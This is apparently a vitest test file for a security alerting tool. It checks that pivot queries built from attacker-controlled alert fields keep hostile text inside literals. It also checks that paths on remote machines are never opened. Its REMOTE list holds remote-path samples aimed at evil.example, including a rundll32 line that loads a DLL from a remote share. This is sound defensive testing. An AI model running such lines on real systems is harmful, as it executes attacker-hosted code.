import { describe, expect, it } from 'vitest';
import { type Alert, seenRunning } from '../../functions/alert/detection/index.ts';
import { type Pivot, pivots } from '../../functions/alert/notification/queries/pivots.ts';
import { problemOf } from '../../functions/alert/notification/queries/query-literals.ts';
import { random, scale, seed } from '../scale.ts';
import { HOSTILE, randomText, UNWRITABLE } from './hostile-texts.ts';
import { pivotAlert } from './pivot-fixture.ts';
import { readEsql } from './query-readers/esql.ts';
import { type Kql, kqlStrings, readKql } from './query-readers/kql.ts';
import { readPowerShell } from './query-readers/powershell.ts';

/** An alert in which the attacker chose everything that can be chosen. */
function alertAbout(text: string): Alert {
  return pivotAlert({
    facts: {
      hostId: text,
      hostName: text,
      agentId: text,
      service: text,
      program: text,
      requester: { kind: 'named', name: text, executable: text, pid: text, entityId: text },
      writer: { name: text, executable: text, pid: text, entityId: text },
    },
    registry: { path: text, hive: text, key: text, value: text, data: [text] },
    evidence: { key: text, versionId: text },
  });
}

const pivotsAbout = (text: string): readonly Pivot[] =>
  pivots(alertAbout(text), 'en', { kibanaUrl: 'https://kibana.example/s/soc' });

/** What the payload of the text is looked for by: pieces of it, with quotes taken off and variables replaced. */
const lookedFor = (text: string): ReadonlySet<string> =>
  new Set(
    JSON.stringify(seenRunning(alertAbout(text).payload))
      .match(/"(?:[^"\\]|\\.)*"/g)
      ?.map(found => JSON.parse(found) as string),
  );

/** Everything in a query that the attacker must not have written. */
function codeOf({ language, text }: Pivot): string {
  switch (language) {
    case 'KQL':
      return JSON.stringify(shapeOf(readKql(text!)));
    case 'ES|QL':
      return readEsql(text!).skeleton;
    case 'PowerShell':
      // A service's key is cut at its fourth element, so there may be a rest or not.
      return readPowerShell(text!).skeleton.replace(
        "$k.OpenSubKey('?') }; if (-not $p)",
        '$k }; if (-not $p)',
      );
    case 'Osquery':
      return text!
        .replace(/CAST\(x'[0-9a-f]*' AS TEXT\)|'(?:[^']|'')*'/g, '?')
        .replace(/\(\?(?: \|\| \?)+\)/g, '?');
    case 'EQL':
      return text!
        .replace(/"(?:[^"\\]|\\u\{[0-9a-f]+\}|\\[\\"])*"/g, '?')
        .replace(
          /\(*(\?process\.(executable|name|args) (==|:) \?\)*( or | and (?=\?process))?\(*)+\)*/,
          'ANY',
        );
    case 'AWS CLI':
      return text!.replace(/\$'(?:[^'\\]|\\.)*'|'[^']*'|"[^"$%!\\]*"/g, '?');
  }
}

/** Fields of "did it run?": how many are asked depends on what the text looks like. */
const LOOKED_FOR = /^process\.(executable|name|args)(\.caseless)?$/;

function shapeOf(query: Kql): unknown {
  if (query.kind === 'not') return ['not', shapeOf(query.part)];
  if ('parts' in query) {
    const parts = query.parts.map(shapeOf);
    return parts.every(part => part === 'ANY') ? 'ANY' : [query.kind, ...parts];
  }
  if (query.kind === 'is' && query.quoted && LOOKED_FOR.test(query.field)) return 'ANY';
  return [query.kind, query.field, query.kind === 'is' && !query.quoted ? query.value : '?'];
}

/** The strings of a query, where the language has a reader here. */
function stringsOf({ language, text }: Pivot): readonly string[] | null {
  if (language === 'KQL') return kqlStrings(readKql(text!));
  if (language === 'ES|QL') return readEsql(text!).strings;
  return language === 'PowerShell' ? readPowerShell(text!).strings : null;
}

const named = ({ name, language, index }: Pivot) => `${name} ${language} ${index}`;
const EXPECTED = pivotsAbout('plain text').filter(({ text }) => text !== null);
const CODE = Map.groupBy(EXPECTED, named);
const OURS = new Set(EXPECTED.flatMap(pivot => stringsOf(pivot) ?? []));

function check(text: string): void {
  const pieces = lookedFor(text);
  for (const pivot of pivotsAbout(text)) {
    const where = `${named(pivot)} about ${JSON.stringify(text)}`;
    if (pivot.text === null) {
      expect([where, pivot.leftOut]).toEqual([where, expect.stringMatching(/^[\x20-\x7e]+$/)]);
      continue;
    }
    expect([where, pivot.text]).toEqual([where, expect.stringMatching(/^[\x20-\x7e\n]+$/)]);
    const codes = CODE.get(named(pivot))!.map(codeOf);
    expect([where, codes]).toEqual([where, expect.arrayContaining([codeOf(pivot)])]);
    for (const string of stringsOf(pivot) ?? []) {
      const isKnown =
        OURS.has(string) || pieces.has(string) || text.includes(string) || string.includes(text);
      expect([where, string, isKnown]).toEqual([where, string, true]);
    }
  }
}

describe('whatever the attacker writes', () => {
  it.each(HOSTILE.filter(text => text.trim() !== ''))('stays inside the literals: %j', check);
  it.each(UNWRITABLE)('leaves the queries out: %j', text => {
    for (const { text: query, index } of pivotsAbout(text)) if (index !== null) expect(query).toBeNull();
    check(text);
  });
  it('stays inside the literals, for any text', { timeout: 600_000 }, () => {
    const next = random(seed());
    for (let left = scale(20_000); left > 0; left--) {
      const text = randomText(next);
      if (text.trim() !== '' && problemOf(text) === null) check(text);
    }
  });
});

describe('a placeholder', () => {
  it('is left in no query', () => {
    for (const { text, name } of pivots(pivotAlert(), 'en')) {
      expect([name, text]).toEqual([
        name,
        expect.not.stringMatching(/\{\{|\{[a-z]+\}|undefined|\[object|<[a-z]+>|…/),
      ]);
    }
  });
});

const REMOTE = [
  '\\\\evil.example\\share\\a.exe',
  '//evil.example/share/a.exe',
  '\\\\?\\UNC\\evil.example\\share\\a.exe',
  '\\\\evil.example@SSL\\DavWWWRoot\\a.exe',
  '\\\\.\\GLOBALROOT\\Device\\Mup\\evil\\a.exe',
  'rundll32.exe \\\\evil.example\\share\\a.dll,Run',
];

describe('a path on another machine', () => {
  it.each(REMOTE)('is opened by no command: %s', line => {
    const all = pivots(pivotAlert({ registry: { data: [line] } }), 'en');
    expect(all.find(({ name }) => name === 'hash')).toMatchObject({ text: null });
    for (const { text } of all) {
      expect(text ?? '').not.toMatch(
        /Get-FileHash|Get-AuthenticodeSignature|Test-Path|FROM (hash|authenticode)\b/,
      );
    }
  });
});
